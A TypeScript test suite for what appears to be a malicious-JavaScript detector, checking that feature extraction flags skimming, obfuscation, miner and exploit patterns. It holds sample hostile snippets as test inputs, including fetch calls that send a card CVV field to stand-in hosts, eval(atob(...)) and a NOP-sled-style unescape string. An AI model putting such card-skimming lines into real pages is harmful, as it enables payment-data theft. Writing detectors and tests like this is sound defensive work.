import assert from 'node:assert/strict';
import fc from 'fast-check';
import { parseScript } from '../../../../analyzer/parse/index.ts';
import { collectFacts } from '../../../../analyzer/static/facts.ts';
import {
  extractFeatures,
  featureGroups,
  featureNames,
  featureSchemaHash,
} from '../../../../analyzer/static/features/index.ts';

const facts = (text: string) => collectFacts(text, parseScript(text));
const features = (text: string): Map<string, number> => {
  const vector = extractFeatures(facts(text));
  return new Map(featureNames.map((name, index) => [name.replace(/@\d+/, ''), vector[index]!]));
};

describe('features', () => {
  it('have names of their own', () => {
    assert.equal(new Set(featureNames).size, featureNames.length);
    assert.match(featureSchemaHash, /^[0-9a-f]{64}$/);
  });

  for (const group of featureGroups) {
    it(`${group.name}: one finite number for each name, whatever the text`, () => {
      const piece = fc.constantFrom(
        'var a = "x";',
        'fetch(b.value);',
        '<html>',
        'function f() {',
        '}',
        '`${',
        '[1, 2]',
        '\ud800',
        '_0x1f["a"]',
        '',
        '\0',
        '(',
        ')',
      );
      fc.assert(
        fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
          const numbers = group.extract(facts(pieces.join(' ')));
          assert.equal(numbers.length, group.features.length);
          assert.ok(numbers.every(Number.isFinite));
        }),
      );
    });
  }

  const raised: [feature: string, text: string][] = [
    ['api-use/used-fetch', 'fetch("/a")'],
    ['api-use/used-atob', 'window["atob"](a)'],
    ['api-use/event-submit', 'f.addEventListener("submit", g)'],
    ['words/distinct-card', 'q("#cc-number")'],
    ['words/distinct-card', 'var a = { cardNumber: 1 }'],
    ['words/distinct-card', 'a = "expiryDate"'],
    ['words/distinct-checkout', 'if (/x/.test(location)) b("onepage-checkout")'],
    ['words/distinct-miner', 'new CoinHive.Anonymous("k")'],
    ['words/distinct-wallet', 'a.setApprovalForAll(b)'],
    ['words/distinct-analytics', 'gtag("event")'],
    ['words/distinct-vendor', 'Stripe("k")'],
    ['words/distinct-exploit', 'new ActiveXObject("x")'],
    ['worst-place/both-card-network', 'fetch("/a", { body: q("#cvv").value })'],
    ['worst-place/both-decode-dynamic', 'eval(atob("YQ=="))'],
    ['obfuscation/hex-names', 'var _0x12ab = 1'],
    ['obfuscation/dispatchers', 'while (1) { switch (a[i++]) { case 1: b() } }'],
    ['obfuscation/largest-string-array', 'var a = ["b", "c", "d", "e", "f", "g"]'],
    ['obfuscation/largest-number-array', 'var a = [1, 2, 3, 4, 5, 6]'],
    ['obfuscation/bracket-strings', 'a["b"]["c"]'],
    ['obfuscation/hex-numbers', 'a = 0x1f'],
    ['strings/urls', 'a = "https://cdn.shop.example/x.js"'],
    ['strings/base64', 'a = "aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ"'],
    ['strings/hex', 'a = "68656c6c6f20776f726c642068656c6c6f"'],
    ['strings/percent-escaped', 'a = unescape("%u9090%u9090%u9090%u9090%u9090")'],
    ['strings/ip-hosts', 'fetch("https://192.0.2.1/a")'],
    ['flows/from-field', 'fetch("https://a.example/?" + document.querySelector("#cvv").value)'],
    ['source-text/mode-none', ')))'],
    ['source-text/invisible', 'a = "\u200b\u200b"'],
  ];
  for (const [feature, text] of raised) {
    it(`raises ${feature} for ${text}`, () => {
      assert.ok(features(text).get(feature)! > 0);
      assert.equal(features('var a = b + 1;').get(feature), 0);
    });
  }

  it('see a small guilty part in a large library', () => {
    const library = Array.from(
      { length: 3000 },
      (_, i) => `function f${i}(a) { return a.b${i}.c + ${i}; }`,
    ).join('\n');
    const guilty = 'fetch("https://a.example", { body: document.querySelector("#cvv").value });';
    const feature = 'worst-place/both-card-network';
    assert.equal(features(library).get(feature), 0);
    assert.ok(features(library + guilty).get(feature)! > 0);
  });

  it('do not move with comments and renames of locals', () => {
    const one = features('(function (element) { fetch("/a", { body: element.value }) })(b)');
    const other = features('(function (e) { fetch("/a", { body: e.value }) })(b)');
    const isText = (name: string): boolean => /^source-text|local|short|share-of-text/.test(name);
    for (const [name, value] of one) if (!isText(name)) assert.equal(other.get(name), value, name);
  });

  it('come from tokens and strings when nothing parses', () => {
    const text = 'fetch("https://a.example", { body: document.querySelector("#cvv").value })';
    const vector = extractFeatures(collectFacts(text, { mode: 'none', program: null }));
    const found = new Map(featureNames.map((name, index) => [name.replace(/@\d+/, ''), vector[index]!]));
    assert.equal(found.get('source-text/mode-none'), 1);
    assert.ok(found.get('api-use/used-fetch')! > 0);
    assert.ok(found.get('words/distinct-card')! > 0);
    assert.ok(found.get('strings/hosts')! > 0);
  });
});
